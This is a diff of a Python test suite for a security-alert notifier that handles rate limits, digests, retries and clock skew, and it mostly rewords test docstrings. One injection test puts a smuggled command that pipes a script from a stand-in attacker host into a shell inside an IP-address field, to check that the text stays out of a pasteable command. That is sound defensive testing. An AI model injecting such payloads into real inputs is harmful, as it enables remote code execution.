@@ -81,7 +81,7 @@ async def test_what_is_above_comes_together(database: DatabaseExecutor, clock: C
 
 
 async def test_no_more_within_the_minute(database: DatabaseExecutor, clock: Clock) -> None:
-    """What comes later waits for the next minute, and is folded again if it is too much."""
+    """Messages beyond the limit wait for the next minute, and are folded again if there are too many."""
     soc = notifier(receiver := Receiver(), database, clock)
     put(database.database, *apart(50))
     await soc.round()
@@ -97,7 +97,7 @@ async def test_no_more_within_the_minute(database: DatabaseExecutor, clock: Cloc
 
 
 async def test_a_flood_hides_no_high_alert(database: DatabaseExecutor, clock: Clock) -> None:
-    """Amid a flood that has used up the minute, a HIGH alert is sent in the next round, by itself and by name."""
+    """A HIGH alert is sent in the next round by itself, even if a flood has used up the minute's limit."""
     soc = notifier(receiver := Receiver(), database, clock)
     put(database.database, *apart(100))
     await soc.round()
@@ -115,7 +115,7 @@ async def test_a_flood_hides_no_high_alert(database: DatabaseExecutor, clock: Cl
 
 
 async def test_high_alerts_come_first_and_worst_first(database: DatabaseExecutor, clock: Clock) -> None:
-    """More of them than the allowance leave one urgent digest; the flood's digest stands for the least severe."""
+    """Urgent alerts beyond their limit leave one urgent digest, and the flood's digest holds the least severe."""
     put(database.database, *apart(40))
     put(database.database, *(sign_in(500 + n, ip=f"192.0.2.{n}") for n in range(30)), rules=HIGH_RULES)
     receiver = Receiver()
@@ -163,7 +163,7 @@ async def test_as_many_as_it_takes_come_by_themselves(database: DatabaseExecutor
 
 
 async def test_the_past_comes_together(database: DatabaseExecutor, clock: Clock) -> None:
-    """A first run tells what happened before in one message, and what happens now as ever."""
+    """A first run sends old alerts in one digest, and new alerts one by one."""
     past = [sign_in(n, at=NOW - timedelta(hours=2 + n)) for n in range(30)]
     put(database.database, *past, sign_in(50))
     receiver = Receiver()
@@ -179,7 +179,7 @@ async def test_the_past_comes_together(database: DatabaseExecutor, clock: Clock)
 
 
 async def test_a_single_one_of_the_past(database: DatabaseExecutor, clock: Clock) -> None:
-    """It is told as itself: there is nothing to sum up."""
+    """A single old alert is sent by itself and not as a digest."""
     put(database.database, sign_in(1, at=NOW - timedelta(hours=5)))
     receiver = Receiver()
 
@@ -221,7 +221,7 @@ async def test_a_campaign(database: DatabaseExecutor, clock: Clock) -> None:
 
 
 async def test_a_slow_campaign(database: DatabaseExecutor, clock: Clock) -> None:
-    """It counts who was told of by themselves before, and what goes on of it is collected."""
+    """A slow campaign counts people who were sent one by one before, and collects later alerts."""
     soc = notifier(receiver := Receiver(), database, clock, per_minute=30)
     for n in range(12):
         put(database.database, sign_in(n, at=clock()), now=clock())
@@ -280,7 +280,7 @@ async def test_a_digest_is_retried_as_it_was(database: DatabaseExecutor, clock: 
 
 
 async def test_a_digest_whose_process_died_in_between(database: DatabaseExecutor, clock: Clock) -> None:
-    """Sent but not marked, it is sent again as it was: nobody would see what it took in by then."""
+    """A digest that was sent but not marked is sent again unchanged."""
     put(database.database, *apart(50))
     assert len(fold(database.database, "soc", now=clock(), per_minute=1).send) == 1
     assert claim(database.database, "soc", now=clock(), lease=LEASE) is not None
@@ -351,7 +351,7 @@ async def test_a_receiver_that_is_down_for_long(database: DatabaseExecutor, cloc
 
 
 async def test_a_hostile_campaign(database: DatabaseExecutor, clock: Clock) -> None:
-    """What calls itself an address does not get into a command that somebody will paste."""
+    """Text that poses as an address does not get into a command for people to paste."""
     hostile = "203.0.113.7; curl https://evil.example.org | sh"
     put(database.database, *(sign_in(n, ip=hostile) for n in range(6)))
     receiver = Receiver()
@@ -367,7 +367,7 @@ async def test_a_hostile_campaign(database: DatabaseExecutor, clock: Clock) -> N
 async def test_what_was_sent_by_a_clock_that_ran_ahead_uses_up_no_allowance(
     database: DatabaseExecutor, clock: Clock
 ) -> None:
-    """Once the clock is right, alerts are told by themselves again."""
+    """Messages that were sent while the clock was ahead do not count against the limit."""
     receiver = Receiver()
     soc = notifier(receiver, database, clock, per_minute=2)
     clock.jump(days=1)
